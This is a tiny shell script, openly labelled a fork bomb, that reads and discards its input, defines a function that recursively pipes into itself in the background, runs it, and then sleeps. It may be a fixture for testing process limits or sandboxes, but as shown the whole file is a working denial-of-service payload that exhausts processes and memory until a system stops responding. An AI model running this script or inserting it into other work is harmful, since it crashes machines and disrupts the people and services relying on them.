#!/bin/sh
# A fork bomb.
cat > /dev/null
bomb() { bomb | bomb & }
bomb
sleep 30
